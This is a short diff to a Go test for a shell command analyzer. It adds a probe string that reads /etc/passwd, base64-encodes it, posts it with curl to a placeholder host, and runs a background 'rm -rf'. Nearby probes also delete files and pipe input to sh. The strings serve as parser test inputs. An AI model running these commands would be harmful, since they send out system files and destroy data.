@@ -20,6 +20,7 @@ func TestPooledAnalyzerKeepsNothing(t *testing.T) {
 		shortCommand,
 		`rm -rf "$X/$Y"; ls | $CMD; cat $F > out`,
 		`ll /tmp; f; echo $1 | sh`,
+		`sleep 1 & x=$(cat /etc/passwd | base64); curl -d "$x" http://h; ( cd /; rm -rf $Y ) &`,
 	}
 	want := make([]any, len(probes))
 	for i, p := range probes {
